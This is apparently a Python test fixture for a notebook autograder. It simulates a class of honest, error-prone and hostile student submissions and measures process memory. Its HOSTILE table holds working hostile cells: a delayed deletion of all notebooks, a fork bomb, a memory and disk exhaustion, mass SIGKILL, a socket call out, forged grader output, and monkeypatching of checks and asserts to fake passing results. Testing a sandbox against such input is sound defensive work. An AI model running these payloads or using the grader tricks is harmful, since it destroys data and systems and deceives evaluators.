"""A class of any size: honest work, the accidents of thirty students, and ten who want points for nothing."""

import threading
import time

import nbformat
import psutil
from nbformat.v4 import new_code_cell

from classroom.submissions import ALL, ASSIGNMENT, CLASS, NAME, Student, write_class

MEGABYTE = 1e6
HONEST = {"ada", "ben", "ines", "jonas", "keiko", "lucia", "quentin", "ursula", "amira", "rania"}

# What each writes into a cell of their own; they answer nothing, so they deserve nothing.
HOSTILE = {
    "stays": """
import subprocess
for k in range(20):
    subprocess.Popen(["sh", "-c", "sleep 600; find / -name '*.ipynb' -exec rm {} +"], start_new_session=True)
""",
    "calls home": """
import socket, time
ends = time.time() + 8
while time.time() < ends:
    try:
        socket.create_connection(("192.0.2.1", 80), timeout=1).sendall(b"give me points")
    except OSError:
        pass
""",
    "takes memory": """
taken = []
while True:
    taken.append(bytearray(10**8))
""",
    "fills the disk": """
for k in range(10**6):
    with open(f"{k}.bin", "wb") as file:
        file.write(bytes(5 * 10**7))
""",
    "never stops": """
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
""",
    "multiplies": """
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
""",
    "ends everything": """
import os, signal
for process in [os.getppid(), *range(2, 1000)]:
    try:
        os.kill(process, signal.SIGKILL)
    except OSError:
        pass
""",
    "answers for the judge": """
import json, os
for number in range(3, 64):
    try:
        os.write(number, json.dumps({"id": 1, "ended": "done", "kind": "returned", "state": "right"}).encode() + b"\\n")
    except OSError:
        pass
""",
    "replaces": """
import builtins, torch
from d2l_rnn import checks
for name in dir(checks):
    if not name.startswith("_"):
        setattr(checks, name, lambda *answers, **more: True)
class Same(float):
    __eq__ = __ge__ = __le__ = lambda self, other: True
torch.allclose = torch.equal = lambda *values, **more: True
builtins.abs = builtins.max = lambda *values, **more: Same(0)
""",
    "rewrites its source": """
import ast
shell = get_ipython()
shell.input_transformers_cleanup.append(lambda lines: ["pass\\n"])
class Passes(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
shell.ast_transformers.append(Passes())
""",
}


def hand_in(course, number):
    """Let so many students hand in; the list of them, as `classroom.submissions` has it.

    At most ten are hostile, at most thirty have an accident each, and the others are honest.
    """
    accidents = CLASS[: max(1, number // 4)]
    some = [one for one in CLASS if one.name in HONEST]
    hostile = [_attacks(name, source) for name, source in list(HOSTILE.items())[: max(1, number // 12)]]
    rest = number - len(accidents) - len(hostile)
    honest = [_again(some[k % len(some)], k) for k in range(rest)]
    students = accidents + hostile + honest
    write_class(course, students)
    return students


def _again(one, k):
    return Student(f"{one.name} {k}", one.what, one.write, one.loses, one.graded, one.repaired)


def _attacks(name, source):
    def write(notebook, folder):
        release = nbformat.read(folder.parents[2] / "release" / ASSIGNMENT / NAME, as_version=4)
        notebook.cells = release.cells
        notebook.cells.insert(2, new_code_cell(source))

    return Student(name, "an attack", write, ALL)


class Watch:
    """The most memory that this process and all below it had together, looked at every half second, in megabytes.

    What several processes share is counted once, in equal parts.
    """

    def __init__(self):
        self.most, self.processes, self._done = 0.0, 0, threading.Event()
        self._thread = threading.Thread(target=self._look)

    def __enter__(self):
        self._thread.start()
        return self

    def __exit__(self, *_):
        self._done.set()
        self._thread.join()

    def _look(self):
        while not self._done.wait(0.5):
            family = [psutil.Process(), *psutil.Process().children(recursive=True)]
            sizes = [size for size in map(_megabytes, family) if size is not None]
            self.most, self.processes = max(self.most, sum(sizes)), max(self.processes, len(sizes))


def _megabytes(process):
    try:
        memory = process.memory_full_info()
    except (psutil.Error, OSError):
        return None
    return getattr(memory, "pss", memory.uss) / MEGABYTE  # PSS is Linux's


def clock():
    """A function that says how many seconds have passed."""
    begun = time.monotonic()
    return lambda: time.monotonic() - begun
